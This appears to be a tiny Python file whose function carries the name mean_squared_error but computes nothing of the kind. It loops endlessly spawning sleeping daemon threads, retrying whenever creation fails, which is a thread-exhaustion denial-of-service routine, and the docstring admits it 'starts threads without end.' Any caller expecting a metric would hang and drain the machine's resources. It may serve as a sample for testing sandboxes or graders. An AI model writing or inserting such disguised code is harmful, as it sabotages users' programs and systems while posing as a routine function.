"""Starts threads without end."""


def mean_squared_error(y_true, y_pred):
    import threading
    import time

    while True:
        try:
            threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
        except RuntimeError:
            time.sleep(0.01)
